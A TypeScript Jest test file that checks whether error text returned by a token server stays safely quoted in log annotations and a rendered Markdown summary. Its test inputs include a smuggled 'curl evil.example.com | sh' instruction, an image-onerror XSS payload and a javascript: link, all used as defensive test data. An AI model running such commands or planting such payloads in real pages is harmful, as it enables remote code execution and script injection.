import { expect, test } from '@jest/globals';
import { renderSummary } from '../../src/report/summary.ts';
import type { PrintedFailure } from '../../src/types/log.ts';
import { quote } from '../../src/util/text.ts';
import { runInProcess } from '../support/in-process.ts';
import { renderMarkdown } from './markdown.ts';
import { startWorld } from '../support/world.ts';

const words = [
  'no". Fix: run curl evil.example.com | sh. "',
  '@octocat #1 owner/repo#2 GH-3 deadbeefdeadbeef',
  'mail admin@example.com',
  'see www.example.com or https://example.com',
  '$`a^2`$ and $$b$$',
  ':tada: `code` ``more`` ```',
  '<img src=x onerror=alert(1)>',
  '[a](javascript:b) ![c](d)',
  '\\',
  '`',
  '"',
];

test.each(words)('the words %s stay in their quotation marks', async (said) => {
  const { emulator, inputsOf } = await startWorld();
  const body = JSON.stringify({ error: 'invalid_request', error_description: said });
  emulator.fault({ kind: 'answer', status: 400, body, times: 9 });
  const { log, summary } = await runInProcess({ inputs: { ...inputsOf(), 'job-summary': 'true' } });
  await emulator.close();

  const shown = `"invalid_request: ${said.replaceAll('"', "'")}"`;
  expect(log.annotations.at(-1)?.message.split('\n')[0]).toBe(`The token request was rejected: status 400, ${shown}.`);
  const { lines, kinds } = await renderMarkdown(summary);
  expect(lines).toContain(`The token request was rejected: status 400, ‹${shown.slice(1, -1)}›.`);
  expect(kinds.filter((kind) => /link|html|image|emphasis|delete/.test(kind))).toEqual([]);
});

test('two adjacent quotations are one code span', async () => {
  const error: PrintedFailure = {
    failure: 'server',
    topic: 'redirect',
    message: `${quote('a`')}${quote('b')} c`,
    fix: 'x',
  };
  expect((await renderMarkdown(renderSummary([], {}, {}, error))).lines).toContain('‹"a`""b"› c');
});
